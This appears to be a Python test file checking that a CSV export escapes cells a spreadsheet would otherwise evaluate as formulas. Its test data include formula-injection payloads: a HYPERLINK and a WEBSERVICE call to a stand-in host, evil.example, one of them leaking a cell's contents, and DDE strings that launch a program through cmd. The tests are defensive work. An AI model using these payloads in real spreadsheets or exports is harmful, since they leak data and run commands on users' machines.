"""Cells that a spreadsheet must not calculate, and their way back."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from geo.exports.cells import cell_of, text_of
from geo.exports.tables import Table, csv_table
from model.edition import Contact, Edition, Name
from model.enums import ContactKind, Language


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example?leak="&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "+7716|=1+1",
        "-",
        "+",
    ],
)
def test_what_begins_like_a_formula_becomes_a_text(text: str) -> None:
    assert cell_of(text) == f"'{text}"
    assert text_of(cell_of(text)) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("+77163822847", "+77163822847"),
        (["+77163820996", "+77163821849"], "+77163820996|+77163821849"),
        (-12.5, "-12.5"),
        (-1e-05, "-1e-05"),
        (51.99374, "51.99374"),
        (True, "yes"),
        (None, ""),
        ((), ""),
        ("Отдел «=»", "Отдел «=»"),
        ("'цитата'", "'цитата'"),
    ],
)
def test_other_values_stay_as_they_are(value: object, cell: str) -> None:
    assert cell_of(value) == cell


@given(st.text())
def test_every_text_comes_back(text: str) -> None:
    if text[:1] != "'":
        assert text_of(cell_of(text)) == text
    assert cell_of(text)[:1] not in tuple("=@\t\r\n")


def test_an_export_calculates_nothing(small_edition: Edition) -> None:
    office = small_edition.offices["akm-akkol-psc"]
    bad = replace(
        office,
        names=(Name('=WEBSERVICE("http://evil.example")', Language.RU), Name("@SUM(A1)", Language.KK)),
        contacts=(Contact(ContactKind.WEBSITE, "-1+1"), Contact(ContactKind.PHONE, "+77163820996")),
    )
    edition = replace(small_edition, offices={**small_edition.offices, office.id: bad})
    text = b"".join(csv_table(edition, Table.OFFICES)).decode()
    (row,) = [
        one for one in csv.DictReader(io.StringIO(text, newline="")) if one["id"] == f"Office:{office.id}"
    ]
    assert row["name_ru"] == '\'=WEBSERVICE("http://evil.example")'
    assert (row["name_kk"], row["websites"], row["phones"]) == ("'@SUM(A1)", "'-1+1", "+77163820996")
